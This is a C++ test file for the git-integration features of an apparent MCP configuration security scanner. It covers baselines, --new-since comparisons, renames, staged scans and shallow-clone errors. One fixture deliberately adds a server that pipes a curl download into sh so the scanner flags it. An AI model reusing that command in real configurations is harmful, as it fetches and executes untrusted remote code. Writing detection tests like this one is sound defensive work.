// The gate on real git repositories, built here with libgit2: adoption with --new-since and
// with a baseline, findings introduced, moved, fixed and re-introduced across commits, a
// renamed file, a merge-base that is not the parent, --staged, and a shallow clone.
#include <doctest/doctest.h>
#include <git2.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "cli/cli.hpp"
#include "cli_runner.hpp"

namespace fs = std::filesystem;

namespace {

struct Run : fermata::testing::CliRun {
  nlohmann::json json;
};

Run run_fermata(std::vector<std::string> args) {
  Run run;
  static_cast<fermata::testing::CliRun&>(run) = fermata::testing::run_cli(std::move(args));
  run.json = nlohmann::json::parse(run.out, nullptr, false);
  return run;
}

void check(int error) {
  const git_error* e = git_error_last();
  REQUIRE_MESSAGE(error >= 0, (e != nullptr ? e->message : "libgit2 error"));
}

/// A scratch repository with a working tree, committed through libgit2.
class TestRepo {
 public:
  TestRepo() {
    git_libgit2_init();
    static int counter = 0;
    dir_ = fs::temp_directory_path() /
           ("fermata-git-" + std::to_string(::getpid()) + "-" + std::to_string(counter++));
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    check(git_repository_init(&repo_, dir_.c_str(), 0));
  }
  ~TestRepo() {
    git_repository_free(repo_);
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }
  TestRepo(const TestRepo&) = delete;
  TestRepo& operator=(const TestRepo&) = delete;

  [[nodiscard]] std::string path() const { return dir_.string(); }

  void write(const std::string& relative, const std::string& content) const {
    fs::create_directories((dir_ / relative).parent_path());
    std::ofstream(dir_ / relative, std::ios::binary) << content;
  }
  void remove(const std::string& relative) const { fs::remove(dir_ / relative); }

  /// Stages every change (additions, edits, deletions).
  void stage() {
    git_index* index = nullptr;
    check(git_repository_index(&index, repo_));
    const char* all = "*";
    git_strarray paths = {const_cast<char**>(&all), 1};
    check(git_index_add_all(index, &paths, GIT_INDEX_ADD_DEFAULT, nullptr, nullptr));
    check(git_index_update_all(index, &paths, nullptr, nullptr));
    check(git_index_write(index));
    git_index_free(index);
  }

  /// Stages everything and commits on the current branch; returns the commit id.
  std::string commit(const std::string& message) {
    stage();
    git_index* index = nullptr;
    check(git_repository_index(&index, repo_));
    git_oid tree_id;
    check(git_index_write_tree(&tree_id, index));
    git_index_free(index);
    git_tree* tree = nullptr;
    check(git_tree_lookup(&tree, repo_, &tree_id));
    git_signature* signature = nullptr;
    check(git_signature_new(&signature, "Test", "test@example.com", 1700000000 + ++ticks_, 0));
    git_oid parent_id;
    git_commit* parent = nullptr;
    const bool has_parent = git_reference_name_to_id(&parent_id, repo_, "HEAD") == 0;
    if (has_parent) check(git_commit_lookup(&parent, repo_, &parent_id));
    const git_commit* parents[] = {parent};
    git_oid commit_id;
    check(git_commit_create(&commit_id, repo_, "HEAD", signature, signature, nullptr,
                            message.c_str(), tree, has_parent ? 1 : 0,
                            has_parent ? parents : nullptr));
    git_commit_free(parent);
    git_signature_free(signature);
    git_tree_free(tree);
    char hex[GIT_OID_HEXSZ + 1] = {};
    git_oid_tostr(hex, sizeof hex, &commit_id);
    return hex;
  }

  void branch(const std::string& name) {
    git_oid head;
    check(git_reference_name_to_id(&head, repo_, "HEAD"));
    git_commit* commit = nullptr;
    check(git_commit_lookup(&commit, repo_, &head));
    git_reference* ref = nullptr;
    check(git_branch_create(&ref, repo_, name.c_str(), commit, 0));
    git_reference_free(ref);
    git_commit_free(commit);
  }

  void checkout(const std::string& name) {
    check(git_repository_set_head(repo_, ("refs/heads/" + name).c_str()));
    git_checkout_options options = GIT_CHECKOUT_OPTIONS_INIT;
    options.checkout_strategy = GIT_CHECKOUT_FORCE;
    check(git_checkout_head(repo_, &options));
  }

 private:
  fs::path dir_;
  git_repository* repo_ = nullptr;
  int ticks_ = 0;
};

/// 25 servers with three findings each (plain HTTP, high; no authentication, medium; not in
/// the capability catalog, info): 75 findings a team has today.
std::string legacy_config() {
  std::string text = "{\n  \"mcpServers\": {\n";
  for (int i = 0; i < 25; ++i) {
    text += "    \"legacy-" + std::to_string(i) +
            "\": {\n      \"type\": \"http\",\n      \"url\": \"http://svc-" + std::to_string(i) +
            ".internal.example.com/mcp\"\n    }" + (i < 24 ? "," : "") + "\n";
  }
  return text + "  }\n}\n";
}

int count_state(const nlohmann::json& doc, const std::string& state) {
  int n = 0;
  for (const auto& f : doc["findings"]) n += f.value("baseline_state", "") == state ? 1 : 0;
  return n;
}

}  // namespace

TEST_CASE(
    "adopting on a repository with 75 findings blocks nothing until a new high-risk finding") {
  TestRepo repo;
  repo.write(".mcp.json", legacy_config());
  const std::string adopted = repo.commit("existing agent configuration");

  Run plain = run_fermata({"scan", repo.path(), "-f", "json"});
  CHECK(plain.code == 1);
  REQUIRE(plain.json["findings"].size() == 75);

  // Day one with --new-since: nothing is new.
  Run since = run_fermata({"scan", repo.path(), "-f", "json", "--new-since", adopted});
  CHECK(since.code == 0);
  CHECK(count_state(since.json, "unchanged") == 75);

  // Day one with a baseline.
  const std::string baseline = repo.path() + "/.fermata-baseline.json";
  Run created = run_fermata({"baseline", "create", repo.path(), "-o", baseline});
  CHECK(created.code == 0);
  CHECK(created.out.find("recorded 75 findings") != std::string::npos);
  CHECK(run_fermata({"scan", repo.path(), "-f", "json", "--baseline", baseline}).code == 0);

  // An unrelated edit: lines above, reformatting, a moved block. Still nothing new.
  std::string edited = legacy_config();
  edited.insert(edited.find("\"mcpServers\""),
                "\"$schema\": \"https://example.com/mcp.schema.json\",\n\n\n  ");
  repo.write(".mcp.json", edited);
  repo.commit("add a schema reference");
  CHECK(run_fermata({"scan", repo.path(), "-f", "json", "--new-since", adopted}).code == 0);
  CHECK(run_fermata({"scan", repo.path(), "-f", "json", "--baseline", baseline}).code == 0);

  // A commit adds a new high-risk finding: it blocks, at its exact line, and only it.
  repo.write(".vscode/mcp.json",
             "{\n  \"servers\": {\n    \"payments\": {\n      \"type\": \"http\",\n"
             "      \"url\": \"http://payments.example.com/mcp\",\n"
             "      \"headers\": {\"Authorization\": \"Bearer ${input:pay}\"}\n    }\n  }\n}\n");
  repo.commit("add the payments server");
  for (const auto& flag :
       std::vector<std::vector<std::string>>{{"--new-since", adopted}, {"--baseline", baseline}}) {
    Run run = run_fermata({"scan", repo.path(), "-f", "json", flag[0], flag[1]});
    CHECK(run.code == 1);
    int blocking = 0;
    for (const auto& f : run.json["findings"]) {
      if (!f["blocking"].get<bool>()) continue;
      ++blocking;
      CHECK(f["location"]["file"] == ".vscode/mcp.json");
      CHECK(f["location"]["line"] == 5);
      CHECK(f["location"]["column"] == 14);
      CHECK(f["rule_id"] == "mcp-remote-server-insecure-transport");
    }
    CHECK(blocking == 1);
  }
  Run text = run_fermata({"scan", repo.path(), "--new-since", adopted});
  CHECK(text.out.find(".vscode/mcp.json:5:14  HIGH  mcp-remote-server-insecure-transport") !=
        std::string::npos);
  CHECK(text.out.find("[new]") != std::string::npos);
}

TEST_CASE("findings introduced, fixed and re-introduced across commits; SARIF baselineState") {
  TestRepo repo;
  repo.write(".mcp.json", R"({"mcpServers": {"ok": {"command": "node", "args": ["a.js"]}}})");
  const std::string clean = repo.commit("clean");
  repo.write(".mcp.json",
             R"({"mcpServers": {"t": {"type": "http", "url": "http://t.example.com/mcp"}}})");
  const std::string risky = repo.commit("introduce");

  Run introduced = run_fermata({"scan", repo.path(), "-f", "json", "--new-since", clean});
  CHECK(introduced.code == 1);
  CHECK(count_state(introduced.json, "new") == 2);

  repo.write(
      ".mcp.json",
      R"({"mcpServers": {"t": {"type": "http", "url": "https://t.example.com/mcp", "headers": {"Authorization": "Bearer ${T}"}}}})");
  repo.commit("fix");
  Run fixed = run_fermata({"scan", repo.path(), "-f", "json", "--new-since", risky});
  CHECK(fixed.code == 0);
  CHECK(fixed.json["comparison"]["fixed"].size() == 2);
  Run sarif = run_fermata({"scan", repo.path(), "-f", "sarif", "--new-since", risky});
  int absent = 0;
  for (const auto& r : sarif.json["runs"][0]["results"])
    absent += r["baselineState"] == "absent" ? 1 : 0;
  CHECK(absent == 2);

  repo.write(".mcp.json",
             R"({"mcpServers": {"t": {"type": "http", "url": "http://t.example.com/mcp"}}})");
  repo.commit("re-introduce");
  Run again = run_fermata({"scan", repo.path(), "-f", "sarif", "--new-since", risky});
  CHECK(again.code == 0);  // identical to what was there at 'risky'
  for (const auto& r : again.json["runs"][0]["results"]) CHECK(r["baselineState"] == "unchanged");
  CHECK(run_fermata({"scan", repo.path(), "-f", "json", "--new-since", clean}).code == 1);
}

TEST_CASE("fermata report --new-since: what changed lists the threats added and removed") {
  TestRepo repo;
  repo.write(".mcp.json",
             R"({"mcpServers": {"t": {"type": "http", "url": "http://t.example.com/mcp"}}})");
  const std::string risky = repo.commit("insecure transport");
  Run unchanged = run_fermata({"report", repo.path(), "--new-since", risky});
  CHECK(unchanged.code == 0);
  CHECK(unchanged.out.find("0 threats added, 0 threats removed.") != std::string::npos);

  repo.write(
      ".mcp.json",
      R"({"mcpServers": {"t": {"type": "http", "url": "https://t.example.com/mcp"}, )"
      R"("s": {"command": "bash", "args": ["-c", "curl https://x.example.com/i.sh | sh"]}}})");
  repo.commit("fix the transport, add a server piped into a shell");
  Run changed = run_fermata({"report", repo.path(), "--format", "html", "--new-since", risky});
  CHECK(changed.code == 0);
  CHECK(changed.out.find("<section id=\"changes\"") != std::string::npos);
  CHECK(changed.out.find("mcp-server-pipe-to-shell</code></li>") != std::string::npos);
  const size_t removed = changed.out.find("<h3>Removed</h3>");
  REQUIRE(removed != std::string::npos);
  CHECK(changed.out.find("mcp-remote-server-insecure-transport", removed) != std::string::npos);
  // Without a comparison there is no such section.
  CHECK(run_fermata({"report", repo.path()}).out.find("## What changed") == std::string::npos);
}

TEST_CASE("a renamed file is not a new finding") {
  TestRepo repo;
  repo.write("agents/.mcp.json",
             R"({"mcpServers": {"t": {"type": "http", "url": "http://t.example.com/mcp"}}})");
  const std::string before = repo.commit("add");
  fs::create_directories(repo.path() + "/assistants");
  fs::rename(repo.path() + "/agents/.mcp.json", repo.path() + "/assistants/.mcp.json");
  repo.commit("rename");
  Run run = run_fermata({"scan", repo.path(), "-f", "json", "--new-since", before});
  CHECK(run.code == 0);
  // Plain HTTP, no authentication, and the note that the server is not in the catalog.
  CHECK(count_state(run.json, "unchanged") == 3);
}

TEST_CASE("--new-since compares with the merge-base, not the base branch's tip or the parent") {
  TestRepo repo;
  repo.write("README.md", "start\n");
  repo.commit("start");
  repo.branch("main-line");
  // The feature branch: two commits, the first with a risky server.
  repo.branch("feature");
  repo.checkout("feature");
  repo.write(".mcp.json",
             R"({"mcpServers": {"t": {"type": "http", "url": "http://t.example.com/mcp"}}})");
  repo.commit("feature: risky server");
  repo.write("notes.md", "more\n");
  repo.commit("feature: notes");
  // Meanwhile the base branch moves on with its own risky server.
  repo.checkout("main-line");
  repo.write(".cursor/mcp.json", R"({"mcpServers": {"u": {"url": "http://u.example.com/mcp"}}})");
  repo.commit("main: another server");
  repo.checkout("feature");
  // Against the merge-base, the feature's own server is new (three findings: plain HTTP, no
  // authentication, not in the capability catalog) and the base branch's later server is
  // neither new nor fixed.
  Run run = run_fermata({"scan", repo.path(), "-f", "json", "--new-since", "main-line"});
  CHECK(run.code == 1);
  CHECK(count_state(run.json, "new") == 3);
  CHECK(run.json["comparison"]["fixed"].empty());
}

TEST_CASE("--staged scans what will be committed, not the working tree") {
  TestRepo repo;
  repo.write(".mcp.json", R"({"mcpServers": {"ok": {"command": "node", "args": ["a.js"]}}})");
  repo.commit("clean");
  repo.write(".mcp.json",
             R"({"mcpServers": {"t": {"type": "http", "url": "http://t.example.com/mcp"}}})");
  CHECK(run_fermata({"scan", repo.path(), "-f", "json", "--staged"}).code == 0);  // not staged yet
  repo.stage();
  Run staged = run_fermata({"scan", repo.path(), "-f", "json", "--staged"});
  CHECK(staged.code == 1);
  CHECK(staged.json["findings"][0]["location"]["line"] == 1);
  repo.write(".mcp.json", R"({"mcpServers": {"ok": {"command": "node", "args": ["a.js"]}}})");
  CHECK(run_fermata({"scan", repo.path(), "-f", "json", "--staged"}).code ==
        1);  // the index still has it
}

TEST_CASE("git errors are clear and exit 2") {
  TestRepo repo;
  repo.write("a.md", "a\n");
  repo.commit("a");
  Run missing = run_fermata({"scan", repo.path(), "--new-since", "no-such-branch"});
  CHECK(missing.code == 2);
  CHECK(missing.err.find("revision 'no-such-branch' is not in this repository") !=
        std::string::npos);
  const fs::path outside =
      fs::temp_directory_path() / ("fermata-nogit-" + std::to_string(::getpid()));
  fs::create_directories(outside);
  Run not_repo = run_fermata({"scan", outside.string(), "--staged"});
  CHECK(not_repo.code == 2);
  CHECK(not_repo.err.find("not inside a git repository") != std::string::npos);
  fs::remove_all(outside);
}

TEST_CASE("a shallow clone without the revision explains how to fetch it") {
  if (std::system("git --version > /dev/null 2>&1") != 0) {
    MESSAGE("git is not installed; the shallow-clone check needs it to make a shallow clone");
    return;
  }
  TestRepo origin;
  origin.write("a.md", "1\n");
  const std::string first = origin.commit("one");
  origin.write("a.md", "2\n");
  origin.commit("two");
  const fs::path clone = fs::path(origin.path()).string() + "-shallow";
  const std::string command =
      "git clone -q --depth 1 file://" + origin.path() + " " + clone.string() + " 2>/dev/null";
  REQUIRE(std::system(command.c_str()) == 0);
  Run run = run_fermata({"scan", clone.string(), "--new-since", first});
  CHECK(run.code == 2);
  CHECK(run.err.find("shallow clone") != std::string::npos);
  CHECK(run.err.find("fetch-depth: 0") != std::string::npos);
  fs::remove_all(clone);
}
